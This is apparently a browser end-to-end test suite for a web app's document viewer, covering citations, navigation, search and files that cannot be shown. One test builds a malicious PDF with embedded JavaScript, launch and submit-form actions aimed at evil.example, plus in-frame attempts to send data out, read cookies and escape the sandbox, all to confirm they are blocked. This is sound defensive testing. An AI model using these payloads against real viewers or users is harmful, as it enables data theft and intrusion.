// Reading documents in the browser: from a citation to its page, search, keys, narrow windows, documents that attack, and
// documents that cannot be shown.
import { createSocket } from 'node:dgram';
import type { Frame } from '@playwright/test';
import { custodyRecord } from '../../../contract/custody/custody.ts';
import { pages, VIEWER_FRAME } from '../../../contract/pages.ts';
import { barriersOf } from '../../support/browser/barriers.ts';
import { expect, open, type Page, test } from '../../support/browser/journey.ts';
import { signInAsClient, signInAsStaff } from '../../support/browser/steps.ts';
import { inquiryFields, smallFile } from '../../support/cases.ts';
import { makeDocx } from '../../support/documents/docx.ts';
import { foundFile } from '../../support/documents/found.ts';
import { jbig2Picture, jpxPicture, linkWith, makePages } from '../../support/documents/pdf-pages.ts';
import { newClient } from '../../support/people.ts';
import { WireClient } from '../../support/requests/wire-client.ts';

const MIB = 1024 * 1024;
const visits = (count: number) =>
  Array.from({ length: count }, (_, index) => ({ text: `Fictitious visit number ${index + 1}.` }));

const frameOf = (page: Page) => page.frameLocator('iframe');
const shownPage = (page: Page) => page.getByRole('textbox', { name: 'Page' });

/** The frame itself, to run scripts in it as a document that has taken it over. */
async function takenFrame(page: Page): Promise<Frame> {
  const frame = await (await page.waitForSelector('iframe')).contentFrame();
  if (!frame) throw new Error('The page has no frame');
  return frame;
}

/** The server looks for pages to count every five seconds, and the page less and less often. */
const COUNT_MS = 60_000;

test('a client follows a citation to its page, and reads on with mouse, keys and search', {
  tag: ['@R2.250', '@R2.254', '@R2.255', '@R2.263', '@R2.264'],
}, async ({ page, server }) => {
  const { person, wire } = await newClient(server.url, 'Casey Sample');
  const id = await wire.submit(inquiryFields(), [smallFile('Volume 1.pdf')]);
  const staff = new WireClient(server.url);
  await staff.signInAsStaff(server.admin);
  const report = { name: 'Chronology.pdf', content: makePages(visits(12)) };
  await staff.answer(id, 'The gap is on p. 3 of Reports 1, not on p. 2 of Records 9.', [report]);

  await signInAsClient(page, person);
  await open(page, `${pages.clientInquiry}?id=${id}`);
  await expect(page.getByRole('listitem').filter({ hasText: 'Chronology.pdf' })).toContainText('Reports 1');
  await expect(page.getByRole('link', { name: /^p\. / })).toHaveCount(1);
  await expect(page.getByText('p. 2 of Records 9')).toBeVisible();
  await page.getByRole('link', { name: 'p. 3 of Reports 1' }).click();
  const viewer = page;
  const visit = (number: number) => frameOf(viewer).getByText(`Fictitious visit number ${number}.`);
  await expect(visit(3)).toBeInViewport();
  await expect(shownPage(viewer)).toHaveValue('3');
  await expect(viewer.getByText('of 12')).toBeVisible();

  await viewer.getByRole('button', { name: 'Next page' }).click();
  await expect(visit(4)).toBeInViewport();
  await expect(viewer).toHaveURL(/#page=4$/);
  await frameOf(viewer).locator('#pages').press('ArrowRight');
  await expect(shownPage(viewer)).toHaveValue('5');
  await shownPage(viewer).fill('11');
  await shownPage(viewer).press('Enter');
  await expect(visit(11)).toBeInViewport();

  await frameOf(viewer).locator('#pages').press('Control+f');
  const search = viewer.getByRole('searchbox');
  await expect(search).toBeFocused();
  const scrolled = () => viewer.evaluate(() => window.scrollY);
  const before = await scrolled();
  await search.fill('visit number 7');
  await search.press('Enter');
  await expect(visit(7)).toBeInViewport();
  await expect(viewer.getByText('1 of 1')).toBeVisible();
  await expect(search).toBeInViewport({ ratio: 1 });
  expect(await scrolled()).toBe(before);
  await search.fill('thunderstorm');
  await search.press('Enter');
  await expect(viewer.getByText('Not found.')).toBeVisible();

  // A reload opens the page that was read, and a new address the page that it names.
  await expect(viewer).toHaveURL(/#page=7$/);
  await viewer.reload();
  await expect(visit(7)).toBeInViewport();
  await viewer.evaluate(() => window.location.assign('#page=2'));
  await expect(visit(2)).toBeInViewport();

  expect(await barriersOf(viewer)).toEqual([]);
  await viewer.setViewportSize({ width: 390, height: 844 });
  await expect(visit(2)).toBeVisible();
  expect(await viewer.evaluate(() => document.documentElement.scrollWidth)).toBe(390);
  const isWide = () =>
    frameOf(viewer)
      .locator('#pages')
      .evaluate((box) => box.scrollWidth > box.clientWidth);
  await expect.poll(isWide).toBe(false);
  await viewer.getByRole('button', { name: 'Zoom in' }).click();
  await expect.poll(isWide).toBe(true);

  const record = await wire.call(custodyRecord, { inquiryid: id });
  const events = record.success === 1 ? record.data.map(({ event }) => event) : [];
  expect(events.filter((event) => event === 'file-opened')).toHaveLength(1);
});

test('staff cite a page, are warned of citations that lead nowhere, and copy one from the viewer', {
  tag: ['@R2.250', '@R2.263', '@R2.266'],
}, async ({ server, staffPage }) => {
  const { wire } = await newClient(server.url, 'Casey Sample');
  const volume = { name: 'Volume 1.pdf', content: makePages(visits(4)) };
  const id = await wire.submit(inquiryFields(), [volume, { name: 'Letter.docx', content: makeDocx() }]);
  await signInAsStaff(staffPage, server.admin);
  await open(staffPage, `${pages.staffInquiry}?id=${id}`);
  await expect(staffPage.getByText('Word file: download only')).toBeVisible();

  const comment = staffPage.getByLabel('Comment');
  await comment.fill('Before.After');
  await comment.evaluate((area: HTMLTextAreaElement) => area.setSelectionRange(7, 7));
  await staffPage.getByRole('link', { name: 'View Volume 1.pdf' }).click();
  await expect(staffPage.getByLabel('File', { exact: true }), 'the link is hidden now').toBeFocused();
  await staffPage.getByLabel('Page', { exact: true }).fill('3');
  await staffPage.getByLabel('Page', { exact: true }).press('Enter');
  await staffPage.getByRole('button', { name: 'Cite this page' }).click();
  await expect(comment).toHaveValue('Before. p. 3 of Records 1 After');
  await expect(staffPage.getByText('Cited: p. 3 of Records 1')).toBeVisible();
  await expect(staffPage.getByLabel('File', { exact: true }).locator(':checked')).toHaveText(
    'Records 1: Volume 1.pdf (4 pages)',
    { timeout: COUNT_MS },
  );
  await comment.fill(
    'See p. 3 of Records 1 and p. 1 of Records 2 and p. 5 of Reports 4; pages 3 to 5 of Records 1, or pp. 3-5 of Records 1.',
  );
  await expect(staffPage.getByText('does not have that many pages: pp. 3-5 of Records 1.')).toBeVisible();
  await expect(
    staffPage.getByText(
      'This cannot be read as a citation: pages 3 to 5 of Records 1. Write it as p. 4 of Records 1.',
    ),
  ).toBeVisible();
  const warning = /will not be a link: p\. 1 of Records 2; p\. 5 of Reports 4/;
  await expect(staffPage.getByText(warning)).toBeVisible();
  await staffPage.getByLabel('Choose files').setInputFiles(report());
  expect(await barriersOf(staffPage)).toEqual([]);
  await staffPage.getByRole('button', { name: 'Publish statement' }).click();
  const question = staffPage.getByRole('dialog');
  await expect(question.locator('.cite')).toHaveText(['p. 3 of Records 1', 'pp. 3-5 of Records 1']);
  await expect(question.getByText(warning)).toBeVisible();
  const publish = question.getByRole('button', { name: /^Publish / });
  await expect(publish).toBeDisabled();
  await question.getByLabel('Publish with broken citations').check();
  await expect(publish).toBeEnabled();
  await question.getByRole('button', { name: 'Back to editing' }).click();

  // A reload opens the record that was read, and the cursor is at the end of the statement.
  await expect(staffPage.getByText(/^Saved/)).toBeVisible();
  await expect(staffPage).toHaveURL(/records=1#page=3$/);
  await staffPage.reload();
  await expect(shownPage(staffPage)).toHaveValue('3');
  await staffPage.getByRole('button', { name: 'Previous page' }).click();
  await expect(shownPage(staffPage)).toHaveValue('2');
  await staffPage.getByRole('button', { name: 'Cite this page' }).click();
  await expect(comment).toHaveValue(/^See .* pp\. 3-5 of Records 1\. p\. 2 of Records 1$/);

  await staffPage.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(staffPage, `${pages.staffFile}?id=${id}&records=1`);
  await staffPage.getByRole('button', { name: 'Copy citation' }).click();
  await expect(staffPage.getByText('Copied: p. 1 of Records 1')).toBeVisible();
  expect(await staffPage.evaluate(() => navigator.clipboard.readText())).toBe('p. 1 of Records 1');
});

const report = () => ({ name: 'Report.pdf', mimeType: 'application/pdf', buffer: makePages(visits(1)) });

test('a document that attacks runs nothing, leads nowhere and sends nothing', {
  tag: ['@R2.251'],
}, async ({ page, context, server, dialogs, complaints }) => {
  const { person, wire } = await newClient(server.url, 'Casey Sample');
  const script = (code: string) => `/S /JavaScript /JS (${code})`;
  const outside = 'https://evil.example/';
  const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) /Rect [0 0 612 200] /AA << /E << ${script('app.alert("entered")')} >> >> >>`;
  const button = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 200 612 396] /A << /S /SubmitForm /F (${outside}form) >> >>`;
  const content = makePages(
    [
      { text: 'Page with a link.', annotations: [linkWith(`/S /URI /URI (${outside}link)`)] },
      { text: 'Page with a form.', annotations: [field, button] },
      { text: 'Page with a script.', annotations: [linkWith(script(`app.launchURL("${outside}script")`))] },
      { text: 'Page with a program.', annotations: [linkWith('/S /Launch /F (calc.exe)')] },
      { text: 'Page with a local link.', annotations: [linkWith('/S /URI /URI (javascript:alert\\(1\\))')] },
    ],
    {
      catalog: `/OpenAction << ${script(`app.alert("opened"); this.submitForm("${outside}open")`)} >> /AA << /WC << ${script('app.alert("closed")')} >> >> /AcroForm << /Fields [] /NeedAppearances true >>`,
    },
  );
  const id = await wire.submit(inquiryFields(), [{ name: 'Volume 1.pdf', content }]);
  await signInAsClient(page, person);
  const sent: string[] = [];
  // What the policy stops never gets here.
  await context.route(`${outside}**`, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ body: 'reached' });
  });
  context.on('page', (opened) => sent.push(`a new page: ${opened.url()}`));
  for (const number of [1, 2, 3, 4, 5]) {
    // A new document: the one before may still write the page that it shows into the address.
    await page.goto('about:blank');
    await page.goto(`${pages.clientFile}?id=${id}&records=1#page=${number}`);
    await expect(shownPage(page)).toHaveValue(String(number));
    const sheet = frameOf(page).locator(`.page[data-page-number="${number}"]`);
    await expect(sheet.locator('canvas').first()).toBeVisible();
    for (const target of await sheet.locator('.annotationLayer section > *').all()) {
      await target.click({ force: true, timeout: 2_000 }).catch(() => {});
    }
    await sheet.click({ position: { x: 100, y: 200 } });
    expect(frameOf(page).locator('#pages')).toBeVisible();
  }

  // Even with the whole frame in its hands, a document gets nothing out and nothing of ours in.
  complaints.expect(/Content Security Policy|security policy|sandbox|Blocked|blocked|about:blank/i);
  const frame = await takenFrame(page);
  const results = await frame.evaluate(async (address) => {
    const failed = async (attempt: () => unknown) => {
      try {
        await attempt();
        return 'worked';
      } catch {
        return 'failed';
      }
    };
    const image = (source: string) =>
      new Promise((resolve, reject) => {
        Object.assign(new Image(), { onload: resolve, onerror: reject, src: source });
      });
    const inner = window as Window & typeof globalThis;
    return {
      'another site': await failed(() => fetch(address)),
      'our calls': await failed(() => fetch('/user/session', { credentials: 'include' })),
      'a file': await failed(() => fetch('/api/view/x.pdf')),
      'a beacon': await failed(() => {
        if (!navigator.sendBeacon(address)) throw new Error('refused');
        throw new Error('sent by the browser, and blocked by the policy');
      }),
      'a picture': await failed(() => image(`${address}picture`)),
      'the page': await failed(() => window.parent.document.title),
      'the address of the page': await failed(() => window.parent.location.href),
      'the cookie': await failed(() => document.cookie),
      storage: await failed(() => window.localStorage.length),
      eval: await failed(() => inner.eval('1')),
      'a new script': await failed(
        () =>
          new Promise((resolve, reject) => {
            const element = document.createElement('script');
            Object.assign(element, { textContent: 'window.hacked = true' });
            document.body.append(element);
            if (Reflect.get(window, 'hacked')) resolve(true);
            else reject(new Error('did not run'));
          }),
      ),
      'a window': await failed(() => {
        if (!window.open(address)) throw new Error('refused');
      }),
      'the address bar': await failed(() => {
        (window.top as Window).location.href = address;
      }),
      'a form': await failed(() => {
        const form = document.createElement('form');
        Object.assign(form, { action: address, method: 'post' });
        document.body.append(form);
        form.submit();
        throw new Error('stays');
      }),
    };
  }, outside);
  expect(new Set(Object.values(results)), JSON.stringify(results)).toEqual(new Set(['failed']));
  // WebRTC, which sends without a request.
  const packets: string[] = [];
  const socket = createSocket('udp4', (packet) => packets.push(packet.toString('hex')));
  await new Promise<void>((bound) => socket.bind(0, '127.0.0.1', bound));
  await frame.evaluate(async (port) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    const gathered = new Promise((resolve) => {
      peer.addEventListener(
        'icegatheringstatechange',
        () => peer.iceGatheringState === 'complete' && resolve(true),
      );
    });
    peer.createDataChannel('stolen');
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
    peer.close();
  }, socket.address().port);
  socket.close();
  expect(packets).toEqual([]);
  // It may leave its place, but only for our own addresses, which refuse to be framed.
  await frame.evaluate((address) => window.location.assign(`${address}leave?stolen`), outside);
  await expect.poll(() => page.frames().some((each) => each.url().startsWith(outside))).toBe(false);

  expect(sent).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(page.url()).toContain(pages.clientFile);
});

test('what a document hides can be read or found, or the page says so; pictures of scanners are drawn', {
  tag: ['@R2.251', '@R2.255', '@R2.258', '@R2.642'],
}, async ({ page, server }) => {
  const { person, wire } = await newClient(server.url, 'Casey Sample');
  const names = [
    'count-900-of-3-pages.pdf',
    'portfolio-40-pages-attached.pdf',
    'sticky-note-and-comments.pdf',
    'soft-hyphen-text.pdf',
    'wide-scan-225-megapixels.pdf',
  ];
  const field = '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (Lisinopril) /Rect [72 500 300 520] >>';
  const form = makePages([{ text: 'Medication:', annotations: [field] }], {
    catalog: '/AcroForm << /Fields [] >>',
  });
  const scan = makePages([
    { text: 'JBIG2', picture: jbig2Picture() },
    { text: 'JPEG 2000', picture: jpxPicture() },
  ]);
  const id = await wire.submit(inquiryFields(), [
    ...names.map((name) => ({ name, content: foundFile(name) })),
    { name: 'Form.pdf', content: form },
    { name: 'Scan.pdf', content: scan },
  ]);
  await signInAsClient(page, person);
  await open(page, `${pages.clientInquiry}?id=${id}`);
  const row = (name: string) => page.getByRole('listitem').filter({ hasText: name });
  await expect(row('count-900')).toContainText('3 pages', { timeout: COUNT_MS });
  await expect(row('portfolio')).toContainText('Contains other files', { timeout: COUNT_MS });
  await expect(row('Form.pdf')).toContainText('1 page', { timeout: COUNT_MS });

  const show = async (number: number, name = '') => {
    await open(page, `${pages.clientFile}?id=${id}&records=${number}${name}`);
    await expect(frameOf(page).locator('.page[data-loaded="true"] canvas').first()).toBeVisible();
  };
  const find = async (text: string) => {
    await page.getByRole('searchbox').fill(text);
    await page.getByRole('searchbox').press('Enter');
    await expect(page.locator('.viewer-found')).toHaveText('1 of 1');
  };
  await show(1, '#page=3');
  await expect(page.getByText('of 3', { exact: true })).toBeVisible();
  await expect(frameOf(page).getByText('Page 3')).toBeInViewport();
  await show(2);
  await expect(page.getByText('This PDF contains other files')).toBeVisible();
  await show(3);
  const icon = frameOf(page).locator('.textAnnotation img').first();
  expect(await icon.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
  await find('denies prior');
  await find('see page 4');
  await find('reviewer comments');
  await show(4);
  await find('postoperative');
  await expect(frameOf(page).locator('.highlight.selected')).toHaveText('post-operative');
  await find('post-operative');
  await find('fracture of the left');
  await show(6);
  await find('lisinopril');
  await open(page, `${pages.clientFile}?id=${id}&records=5`);
  await expect(page.getByText('Page 1 could not be drawn completely.')).toBeVisible();

  await show(7);
  /** The gray at a quarter and at three quarters of a page's width, in its middle. */
  const grays = (number: number) =>
    frameOf(page)
      .locator(`.page[data-page-number="${number}"] canvas`)
      .first()
      .evaluate((canvas: HTMLCanvasElement) => {
        const { width, height } = canvas;
        const at = (part: number) =>
          canvas.getContext('2d')?.getImageData(width * part, height / 2, 1, 1).data[0];
        return [at(0.25), at(0.75)];
      });
  await expect.poll(() => grays(1)).toEqual([255, 0]);
  await page.getByRole('button', { name: 'Next page' }).click();
  await expect.poll(() => grays(2)).toEqual([128, 128]);
});

test('the first page of a large file is shown after a small part of it is read, and so is a later one', {
  tag: ['@R2.258'],
}, async ({ page, server }) => {
  const { person, wire } = await newClient(server.url, 'Casey Sample');
  // As a scanner writes it: all pages in one list, and as far apart as their pictures are large.
  const [link, ...others] = visits(320);
  const toPage = `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /Dest [904 0 R /Fit] >>`;
  const content = makePages([{ text: '', ...link, annotations: [toPage] }, ...others], { padding: MIB / 8 });
  const id = await wire.submit(inquiryFields(), [{ name: 'Volume 1.pdf', content }]);
  await signInAsClient(page, person);
  let bytes = 0;
  page.on('response', (response) => {
    if (response.url().includes('/api/view/')) bytes += Number(response.headers()['content-length']);
  });
  const visit = (number: number) => frameOf(page).getByText(`Fictitious visit number ${number}.`);
  await open(page, `${pages.clientFile}?id=${id}&records=1`);
  await expect(visit(1)).toBeVisible();
  await expect(page.getByText('of 320')).toBeVisible();
  expect(bytes).toBeLessThan(MIB);

  await frameOf(page).locator('.annotationLayer a').click();
  await expect(visit(301)).toBeInViewport();
  await expect(shownPage(page)).toHaveValue('301');
  await shownPage(page).fill('200');
  await shownPage(page).press('Enter');
  await expect(visit(200)).toBeInViewport();
  expect(bytes).toBeLessThan(3 * MIB);
});

/** Nine pages; the table of the document has one of them in a wrong place. */
function withLostPage(): Buffer {
  const whole = makePages(visits(9), { padding: MIB / 2 }).toString('latin1');
  const place = String(whole.indexOf('19 0 obj')).padStart(10, '0');
  return Buffer.from(whole.replace(`${place} 00000 n`, '0000001234 00000 n'), 'latin1');
}

test('what cannot be shown says why, and what to do next', {
  tag: ['@R2.251', '@R2.258', '@R2.259'],
}, async ({ page, context, server, complaints }) => {
  const { person, wire } = await newClient(server.url, 'Casey Sample');
  const id = await wire.submit(inquiryFields(), [
    { name: 'Damaged.pdf', content: Buffer.from('%PDF-1.7\nFictitious, and nothing else.\n%%EOF\n') },
    { name: 'Locked.pdf', content: makePages(visits(5), { password: 'opensesame', padding: MIB }) },
    { name: 'Letter.docx', content: makeDocx() },
    { name: 'Long.pdf', content: makePages(visits(9), { padding: MIB / 2 }) },
    { name: 'Lost.pdf', content: withLostPage() },
  ]);
  await signInAsClient(page, person);
  const view = (number: number, hash = '') =>
    open(page, `${pages.clientFile}?id=${id}&records=${number}${hash}`);

  await view(1);
  await expect(page.getByText('it is damaged, or not a real PDF')).toBeVisible();

  await view(2);
  const password = page.getByLabel('Password of the document');
  await password.fill('wrong');
  await page.getByRole('button', { name: 'Open the document' }).click();
  await expect(page.getByText('Wrong password for this document.')).toBeVisible();
  expect(await barriersOf(page)).toEqual([]);
  await password.fill('opensesame');
  await page.getByRole('button', { name: 'Open the document' }).click();
  await expect(frameOf(page).getByText('Fictitious visit number 1.')).toBeVisible();

  await view(3);
  await expect(page.getByText('Word, Excel, and CSV files can only be downloaded.')).toBeVisible();
  await view(7);
  await expect(page.getByText('This inquiry has no Records 7.')).toBeVisible();

  // One that turns out to be damaged is opened again at the same page.
  complaints.expect(/^uncaught: $/);
  await view(5);
  await expect(frameOf(page).getByText('Fictitious visit number 1.')).toBeVisible();
  await shownPage(page).fill('4');
  await shownPage(page).press('Enter');
  await expect(frameOf(page).getByText('Fictitious visit number 4.')).toBeInViewport();
  await expect(shownPage(page)).toHaveValue('4');

  await view(4, '#page=40');
  await expect(page.getByText('There is no page 40: this document has 9 pages.')).toBeVisible();
  await page.goto('about:blank');
  await view(4);
  await expect(frameOf(page).getByText('Fictitious visit number 1.')).toBeVisible();
  complaints.expect(/ERR_INTERNET_DISCONNECTED|Failed to load resource/);
  await context.setOffline(true);
  const search = page.getByRole('searchbox');
  await search.fill('visit number 9');
  await search.press('Enter');
  await context.setOffline(false);
  await expect(frameOf(page).getByText('Fictitious visit number 9.')).toBeInViewport();

  await page.route(`**${VIEWER_FRAME}`, (route) => route.abort());
  complaints.expect(/ERR_FAILED/);
  await expect(page).toHaveURL(/#page=9$/);
  await page.reload();
  await expect(page.getByText('no answer from the server')).toBeVisible();
  await page.unroute(`**${VIEWER_FRAME}`);
  await page.getByRole('button', { name: 'Try again' }).click();
  await expect(frameOf(page).getByText('Fictitious visit number 9.')).toBeInViewport();

  // A copy of the address, after signing out: the sign-in page, and back.
  await context.clearCookies();
  complaints.expect(/401/);
  await page.reload();
  await expect(page).toHaveURL(new RegExp(pages.login));
});
